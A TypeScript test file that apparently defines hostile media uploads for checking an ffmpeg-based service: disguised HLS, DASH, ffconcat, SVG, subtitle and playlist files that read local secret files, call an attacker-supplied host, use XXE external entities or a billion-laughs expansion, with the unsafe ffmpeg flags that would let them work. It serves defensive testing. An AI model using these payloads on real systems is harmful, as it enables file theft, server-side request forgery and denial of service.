import type { FileAttacks } from './attack.js'
import { avi, gab2 } from './riff.js'

const ANY_PROTOCOL = ['-protocol_whitelist', 'file,http,tcp,udp,rtp,crypto,data']

const hls = (...lines: string[]) =>
  ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:9', ...lines, '#EXT-X-ENDLIST', ''].join('\n')
const dash = (base: string, before = '') =>
  `<?xml version="1.0"?>${before}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet contentType="audio"><Representation id="0" bandwidth="64000" mimeType="audio/mp4"><BaseURL>${base}</BaseURL></Representation></AdaptationSet></Period></MPD>`
const frame = Buffer.alloc(16 * 16 * 3, 0x7f)
/** Real pictures with subtitles beside them. */
const withSubtitles = (subtitles: string) =>
  avi({ width: 16, height: 16, fourcc: '\0\0\0\0' }, Array(50).fill(frame), gab2(subtitles))

/** Files that hold no media but name some. */
export const PLAYLISTS: FileAttacks = {
  kind: 'Playlists, manifests and scripts that name other files and addresses',
  attacks: [
    {
      name: 'an HLS playlist of a file outside, as .mp4',
      file: 'hls-file.mp4',
      bytes: ({ secret }) => hls('#EXTINF:9,', `file://${secret.soundFile}`),
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'an HLS playlist of an address, as .mp3',
      file: 'hls-http.mp3',
      bytes: ({ host }) => hls('#EXTINF:9,', `http://${host}/segment.ts`),
      ends: 'UNSUPPORTED_CONTAINER',
      careless: ANY_PROTOCOL,
    },
    {
      name: 'an HLS playlist of playlists, as .mkv',
      file: 'hls-master.mkv',
      bytes: ({ host }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${host}/low.m3u8\n`,
      ends: 'UNSUPPORTED_CONTAINER',
      careless: ANY_PROTOCOL,
    },
    {
      name: 'an HLS playlist whose key is at an address',
      file: 'hls-key.ts',
      bytes: ({ host, secret }) =>
        hls(`#EXT-X-KEY:METHOD=AES-128,URI="http://${host}/key"`, '#EXTINF:9,', `file://${secret.soundFile}`),
      ends: 'UNSUPPORTED_CONTAINER',
      careless: [...ANY_PROTOCOL, '-allowed_extensions', 'ALL'],
    },
    {
      name: 'an HLS playlist that glues a file to an address (`concat:`)',
      file: 'hls-concat.avi',
      bytes: ({ host, secret }) =>
        hls('#EXTINF:9,', `concat:http://${host}/head|subfile,,start,0,end,64,,:${secret.textFile}`),
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'an HLS playlist behind an ID3 tag, as .mp3',
      file: 'id3-hls.mp3',
      bytes: ({ host }) =>
        Buffer.concat([
          Buffer.from('ID3\x03\0\0\0\0\0\x0a', 'latin1'),
          Buffer.alloc(10),
          Buffer.from(hls('#EXTINF:9,', `http://${host}/segment.ts`)),
        ]),
      ends: 'UNSUPPORTED_CONTAINER',
      careless: ANY_PROTOCOL,
    },
    {
      name: 'a DASH manifest of an address, as .mp4',
      file: 'dash-http.mp4',
      bytes: ({ host }) => dash(`http://${host}/media.mp4`),
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'a DASH manifest with an external entity (XXE)',
      file: 'dash-entity.mp4',
      bytes: ({ host, secret }) =>
        dash(
          '&secret;',
          `<!DOCTYPE MPD [<!ENTITY secret SYSTEM "file://${secret.textFile}"><!ENTITY % more SYSTEM "http://${host}/more.dtd"> %more;]>`,
        ),
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'a DASH manifest with entities that multiply (billion laughs)',
      file: 'dash-laughs.mp4',
      bytes: () =>
        dash(
          '&i;',
          `<!DOCTYPE MPD [<!ENTITY a "ha">${'bcdefghi'
            .split('')
            .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefgh'[i]};`.repeat(10)}">`)
            .join('')}]>`,
        ),
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'a Smooth Streaming manifest',
      file: 'smooth.mp4',
      bytes: ({ host }) =>
        `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2" Duration="90000000"><StreamIndex Type="audio" Url="http://${host}/a"/></SmoothStreamingMedia>`,
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'an ffconcat script of a file outside, as .mp4',
      file: 'concat-file.mp4',
      bytes: ({ secret }) => `ffconcat version 1.0\nfile '${secret.soundFile}'\n`,
      ends: 'UNSUPPORTED_CONTAINER',
      careless: ['-safe', '0'],
    },
    {
      name: 'an ffconcat script of an address, without its first line',
      file: 'concat-http.wav',
      bytes: ({ host }) => `file 'http://${host}/a.mp4'\n`,
      ends: 'NOT_MEDIA',
      careless: ['-f', 'concat', '-safe', '0', ...ANY_PROTOCOL],
    },
    {
      name: 'an SDP description, as .mp4',
      file: 'sdp.mp4',
      bytes: ({ canary }) =>
        `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio ${canary.port} RTP/AVP 0\r\na=control:rtsp://127.0.0.1:${canary.port}/a\r\n`,
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'an SVG drawing that loads a file and an address, as .png',
      file: 'svg.png',
      bytes: ({ host, secret }) =>
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="file://${secret.textFile}"/><image xlink:href="http://${host}/a.png" width="64" height="64"/></svg>`,
      preset: 'poster',
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an SVG drawing behind an XML declaration with an external entity, as .jpg',
      file: 'svg-entity.jpg',
      bytes: ({ secret }) =>
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secret.textFile}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      preset: 'poster',
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'ASS subtitles with a font and a picture from elsewhere, as .mp4',
      file: 'ass.mp4',
      bytes: ({ secret, host }) =>
        `[Script Info]\nScriptType: v4.00+\n[Aegisub Project Garbage]\nVideo File: ${secret.textFile}\n[Fonts]\nfontname: http://${host}/f.ttf\n[V4+ Styles]\nFormat: Name, Fontname\nStyle: Default,${secret.textFile}\n[Events]\nFormat: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:09.00,Default,{\\img(${secret.textFile})}x\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'WebVTT with a style sheet from an address, as .mp4',
      file: 'webvtt.mp4',
      bytes: ({ host }) => `WEBVTT\n\nSTYLE\n@import url(http://${host}/a.css);\n\n00:00.000 --> 00:09.000\nx\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'SubRip with a link to a picture, as .mov',
      file: 'subrip.mov',
      bytes: ({ host }) => `1\n00:00:00,000 --> 00:00:09,000\n<img src="http://${host}/a.png">\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an AVI with an HLS playlist for subtitles (GAB2)',
      file: 'gab2-hls.avi',
      bytes: ({ host, secret }) =>
        withSubtitles(hls('#EXTINF:9,', `http://${host}/a.ts`, '#EXTINF:9,', `file://${secret.textFile}`)),
      preset: 'h264-360p',
      ends: 'completed',
    },
    {
      name: 'an AVI with an ffconcat script for subtitles (GAB2), as .mp4',
      file: 'gab2-concat.mp4',
      bytes: ({ secret }) => withSubtitles(`ffconcat version 1.0\nfile '${secret.textFile}'\n`),
      preset: 'h264-360p',
      ends: 'completed',
    },
    {
      name: 'an AVI with SubRip that names an address (GAB2)',
      file: 'gab2-srt.avi',
      bytes: ({ host }) => withSubtitles(`1\n00:00:00,000 --> 00:00:01,000\n<img src="http://${host}/a.png">\n`),
      preset: 'h264-360p',
      ends: 'completed',
    },
    {
      name: 'a PLS playlist, as .mp3',
      file: 'pls.mp3',
      bytes: ({ host }) => `[playlist]\nFile1=http://${host}/a.mp3\nNumberOfEntries=1\nVersion=2\n`,
      ends: 'UNSUPPORTED_CONTAINER',
    },
    {
      name: 'an M3U of bare lines, as .mp3',
      file: 'm3u.mp3',
      bytes: ({ host, secret }) => `http://${host}/a.mp3\n${secret.soundFile}\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an ASX playlist, as .wmv',
      file: 'asx.wmv',
      bytes: ({ host }) => `<asx version="3.0"><entry><ref href="http://${host}/a.wmv"/></entry></asx>`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an ASF reference, as .wmv',
      file: 'reference.wmv',
      bytes: ({ host }) => `[Reference]\r\nRef1=http://${host}/a.wmv?MSWMExt=.asf\r\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'a RealMedia metafile, as .rm',
      file: 'real.rm',
      bytes: ({ host }) => `rtsp://${host}/a.rm\npnm://${host}/b.rm\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an RTSP text of QuickTime, as .mov',
      file: 'rtsp-text.mov',
      bytes: ({ host }) => `RTSPtext\nrtsp://${host}/a.mov\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an XSPF playlist, as .ogg',
      file: 'xspf.ogg',
      bytes: ({ host }) =>
        `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>http://${host}/a.ogg</location></track></trackList></playlist>`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'a SMIL presentation, as .mp4',
      file: 'smil.mp4',
      bytes: ({ host }) => `<smil><body><video src="rtmp://${host}/a"/></body></smil>`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'a cue sheet, as .flac',
      file: 'cue.flac',
      bytes: ({ secret }) => `FILE "${secret.soundFile}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
      ends: 'NO_AUDIO_STREAM',
    },
    {
      name: 'an IMF composition, as .mxf',
      file: 'imf.mxf',
      bytes: ({ host }) =>
        `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2013"><Id>urn:uuid:00000000-0000-0000-0000-000000000000</Id><AssetMap><Path>http://${host}/a.mxf</Path></AssetMap></CompositionPlaylist>`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'an AviSynth script, as .avi',
      file: 'script.avi',
      bytes: ({ secret }) => `AVISource("${secret.soundFile}")\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'a filter graph that reads a file, as .mp4',
      file: 'graph.mp4',
      bytes: ({ secret }) => `movie=${secret.soundFile}:seek_point=0[out0]\n`,
      ends: 'NOT_MEDIA',
    },
    {
      name: 'metadata for ffmpeg with a chapter, as .mp4',
      file: 'ffmetadata.mp4',
      bytes: () => ';FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\n',
      ends: 'NOT_MEDIA',
    },
    {
      name: 'a VobSub index, as .mp4',
      file: 'vobsub.mp4',
      bytes: () =>
        '# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n',
      ends: 'NOT_MEDIA',
    },
    {
      name: 'text that ffmpeg draws as a terminal would, as .avi',
      file: 'tty.avi',
      bytes: () => '\u001b[2J\u001b[31mroot:x:0:0\u001b[0m\n'.repeat(100),
      preset: 'h264-360p',
      ends: 'NOT_MEDIA',
    },
  ],
}
